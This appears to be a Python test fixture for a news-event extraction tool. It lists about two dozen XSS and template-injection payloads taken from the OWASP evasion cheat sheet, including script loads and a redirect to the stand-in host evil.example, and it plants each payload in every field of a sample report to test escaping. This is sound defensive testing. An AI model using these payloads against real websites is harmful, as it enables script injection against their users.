"""A reading with what a page might try in every field of it. Source: OWASP XSS Filter Evasion Cheat Sheet."""

from __future__ import annotations

from datetime import date

from dateline.model.actor import Actor, ActorKind, Group, Harm, Munition, Person, Toll
from dateline.model.claim import (
    CASUALTY,
    PERPETRATOR,
    STATEMENT,
    TARGET,
    TOLL,
    WEAPON,
    WHEN,
    WHERE,
    About,
    Attribution,
    Claim,
    NamedCasualty,
    Perpetrator,
    Responsibility,
    Stance,
    Statement,
    Target,
)
from dateline.model.estimate import Estimate
from dateline.model.event import Event, Kind
from dateline.model.extraction import Extraction, Problem
from dateline.model.link import Link, Relation
from dateline.model.page import Edit
from dateline.model.report import Report, Span, cited
from dateline.model.when import Precision, When
from dateline.model.where import Place, PlacePrecision

XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "jAvAsCrIpT&colon;alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "<svg/onload=alert(1)>",
    "</title></style></textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<a href=\"javascript:alert('x')\">x</a>",
    "{{ 7*7 }}{% raw %}${7*7}",
    "<body onload=alert(1)>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "\u202e<b>turned\u202c",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


def hostile(bad, key):
    """A report that says `bad` wherever anything can be said, and what it was read as."""
    text = f"{bad} 🚀 attack {bad} before {bad}.\n"
    report = Report.of(text, id=key, outlet=bad, url=bad, title=bad, published=date(2021, 5, 4))

    def quote(start):
        return report.cite(Span(start, start + len(bad)), f"rule.{bad}")

    last = text.rindex(bad)
    one, two = Event.of(Kind.ATTACK, quote(0)), Event.of(Kind.BOMBING, quote(last))
    said = Attribution(bad, Stance.CLAIMS, certainty=bad)
    day = When(date(2021, 5, 3), date(2021, 5, 3), Precision.DAY, bad)
    place = Place(bad, "camp", PlacePrecision.UNKNOWN, None, (), None, None, (bad,))
    values = (
        (WHEN, day),
        (WHERE, place),
        (WEAPON, Munition(bad, "rocket", Estimate.exactly(3))),
        (TARGET, Target(bad)),
        (TOLL, Toll(Harm.KILLED, Estimate(2, 2, None, bad), Group(bad))),
        (PERPETRATOR, Perpetrator(Actor(bad, ActorKind.GROUP), Responsibility.ACCUSED)),
        (CASUALTY, NamedCasualty(Person(bad, bad, bad, bad, 30), Harm.KILLED)),
        (STATEMENT, Statement(About.OTHER, bad)),
    )
    claims = tuple(
        Claim(event.id, slot, value, cited(quote(0)), said) for event in (one, two) for slot, value in values
    )
    return Extraction(
        report,
        (one, two),
        claims,
        (Link(two.id, Relation.RESPONSE, one.id, cited(quote(last))),),
        (),
        (Problem(key, Span(0, 3), bad, bad),),
        (Edit(Span(1, 2), bad, bad),),
        bad,
        (bad,),
    )
